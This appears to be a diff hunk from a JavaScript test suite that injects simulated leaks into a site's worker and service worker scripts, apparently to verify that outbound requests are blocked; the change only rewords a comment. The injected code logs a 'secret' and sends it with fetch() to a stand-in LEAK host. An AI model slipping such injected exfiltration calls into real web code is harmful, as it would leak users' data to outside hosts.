@@ -176,7 +176,7 @@ const leakInWorker = (site) => withChange(site, sitePath(site, 'worker-loader.js
   assert.ok(source.includes(marker));
   return source.replace(marker, `${marker} console.log('secret of a worker'); fetch('${LEAK}/worker', { mode: 'no-cors' }).catch(() => {});`);
 });
-/** Leaks at each message, because the first request may come before the test has allowed requests to the host. */
+/** Sends a leak at each message, because the first request may come before the test has allowed requests to the host. */
 const leakInServiceWorker = (site) => new Map(site).set(SERVICE_WORKER, Buffer.from(`${site.get(SERVICE_WORKER)}
 self.addEventListener('message', () => {
   console.log('secret of the service worker');
